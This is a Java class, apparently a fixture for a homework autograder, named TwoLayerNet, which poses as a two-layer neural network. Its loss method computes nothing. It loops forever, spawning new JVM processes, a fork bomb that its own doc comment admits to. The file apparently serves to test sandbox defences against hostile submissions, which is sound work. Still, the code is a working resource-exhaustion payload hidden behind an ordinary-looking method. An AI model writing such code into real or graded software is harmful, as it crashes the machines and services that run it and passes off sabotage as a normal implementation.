package homework.twolayer;

import java.util.Map;
import org.ejml.simple.SimpleMatrix;

/** Starts programs, a fork bomb among them. */
public final class TwoLayerNet extends HonestNet {
    public TwoLayerNet(Map<String, SimpleMatrix> parameters) {
        super(parameters);
    }

    @Override
    public double loss(SimpleMatrix X, int[] y, double reg) {
        try {
            while (true) {
                new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-version").start();
            }
        } catch (RuntimeException e) {
            throw e;
        } catch (Exception e) {
            throw new IllegalStateException("no program", e);
        }
    }
}
